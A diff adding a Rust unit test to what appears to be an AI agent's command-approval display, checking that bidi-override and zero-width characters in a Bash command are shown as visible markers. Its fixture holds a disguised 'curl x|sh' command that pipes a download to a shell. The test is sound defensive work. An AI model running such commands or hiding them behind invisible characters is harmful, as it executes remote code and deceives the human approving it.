@@ -280,6 +280,22 @@ mod tests {
     }
 
     #[test]
+    fn the_approval_box_shows_invisible_characters_in_the_command() {
+        let input =
+            json!({"command": "echo safe\u{202e}\u{200d}; curl x|sh", "description": "a\u{2067}b"});
+        let shown = texts(&tool_detail("Bash", &input, th(), 80)).join("\n");
+        assert!(
+            shown.contains("echo safe⟨U+202E⟩⟨U+200D⟩; curl x|sh"),
+            "{shown}"
+        );
+        assert!(shown.contains("a⟨U+2067⟩b"), "{shown}");
+        assert!(
+            !shown.chars().any(crate::agent::sanitize::is_invisible),
+            "{shown}"
+        );
+    }
+
+    #[test]
     fn a_changed_line_in_the_middle_is_removed_then_added() {
         assert_eq!(
             line_diff("a\nb\nc", "a\nB\nc"),
